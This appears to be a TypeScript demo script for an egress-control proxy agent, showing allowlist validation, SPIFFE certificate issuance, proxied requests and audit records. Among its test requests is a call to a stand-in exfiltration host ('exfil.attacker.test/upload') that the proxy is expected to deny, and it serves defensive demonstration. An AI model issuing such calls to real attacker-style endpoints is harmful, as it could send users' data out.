import { Writable } from 'node:stream';
import { startAgent } from '../agent/agent.ts';
import { agentConfig } from '../agent/agent-config.ts';
import type { AuditRecord } from '../core/audit.ts';
import { createLogger } from '../core/logger.ts';
import { httpViaProxy, httpsViaProxy, type Reply } from './clients.ts';
import { startDemoControlPlane } from './control-plane.ts';
import { startExternalApi } from './external-api.ts';
import { REPO, egressctl, heading, reportSurprises, say, showAuditRecords, showResult } from './present.ts';

/**
 * `npm run demo`: everything embedded, no root, no cluster, no network. The
 * agent runs as an explicit proxy over the allowlists of deploy/examples/, a
 * loopback server stands in for the external API, and the audit records the
 * requests produced are shown as a table and one in full.
 */
const EXAMPLES = `${REPO}deploy/examples`;

export async function runExplicitDemo(): Promise<number> {
  heading('1. Validate the allowlists (Istio ServiceEntry, DestinationRule, Sidecar)');
  await egressctl(['validate', 'deploy/examples']);

  heading('2. Workload identity: the control plane (CA) signs the agent a SPIFFE certificate');
  const controlPlane = await startDemoControlPlane({ namespace: 'default', serviceAccount: 'checkout', trustDomain: 'cluster.local' });
  say(`control plane: Istio CreateCertificate API on 127.0.0.1:${controlPlane.grpcPort} (gRPC/TLS), token for default/checkout minted`);
  const api = await startExternalApi();
  const records: AuditRecord[] = [];
  const auditDestination = new Writable({
    write(chunk: Buffer, _encoding, done) {
      for (const line of chunk.toString('utf8').split('\n')) if (line.trim() !== '') records.push(JSON.parse(line) as AuditRecord);
      done();
    },
  });
  const agent = await startAgent(
    agentConfig({
      configDir: EXAMPLES,
      outboundPort: 0,
      proxyPort: 0,
      adminPort: 0,
      namespace: 'default',
      auditStdout: false,
      identity: controlPlane.identity,
      connectTo: [
        { from: { host: api.host, port: 443 }, to: { host: '127.0.0.1', port: api.httpsPort } },
        { from: { host: api.host, port: 80 }, to: { host: '127.0.0.1', port: api.httpPort } },
      ],
    }),
    { logger: createLogger('agent', { level: 'warn' }), auditDestination },
  );
  const surprises: string[] = [];
  let requests: Array<[string, number, () => Promise<Reply>]> = [];
  const proxy = { host: '127.0.0.1', port: agent.addresses.proxy.port };
  const admin = `http://127.0.0.1:${agent.addresses.admin.port}`;
  await egressctl(['status', '--admin', admin]);
  say(
    `\napi.example.test is served on 127.0.0.1 (https :${api.httpsPort}, http :${api.httpPort}); the agent sends its :443 and :80 there (--connect-to).\n` +
      `agent: explicit proxy http://127.0.0.1:${proxy.port}  admin http://127.0.0.1:${agent.addresses.admin.port}  allowlists ${EXAMPLES}`,
  );

  try {
    heading(`3. The application's requests, with HTTPS_PROXY=http://127.0.0.1:${proxy.port}`);
    requests = [
      ['GET https://api.example.test/v1/status   (allowed: ServiceEntry demo-api, port 443)', 200, () => httpsViaProxy(proxy, new URL('https://api.example.test/v1/status'), api.pki.caPem)],
      ['GET http://api.example.test/v1/plain     (allowed: ServiceEntry demo-api, port 80)', 200, () => httpViaProxy(proxy, new URL('http://api.example.test/v1/plain'))],
      ['GET https://exfil.attacker.test/upload   (no ServiceEntry: denied)', 403, () => httpsViaProxy(proxy, new URL('https://exfil.attacker.test/upload'), api.pki.caPem)],
      ['GET http://api.example.test:8080/        (host allowed, port not)', 403, () => httpViaProxy(proxy, new URL('http://api.example.test:8080/'))],
    ];
    for (const [what, expected, send] of requests) {
      const reply = await send();
      showResult(what, `HTTP ${reply.status}`, reply.body);
      if (reply.status !== expected) surprises.push(`${what}: HTTP ${reply.status}, expected ${expected}`);
    }

    heading('4. Why was it blocked? egressctl check answers from the same allowlists');
    await egressctl(['check', '--config', 'deploy/examples', '--namespace', 'default', 'exfil.attacker.test:443']);
    await egressctl(['check', '--config', 'deploy/examples', '--namespace', 'default', 'api.example.test:8080']);
  } finally {
    await agent.close();
    await api.close();
    await controlPlane.close();
  }

  heading('5. The audit records: one per connection, JSON lines on the agent\'s stdout (here as a table)');
  showAuditRecords(records, { label: 'The denied CONNECT', match: (r) => r.decision === 'deny' });
  if (records.length !== requests.length) surprises.push(`${records.length} audit records for ${requests.length} connections`);
  return reportSurprises(surprises);
}
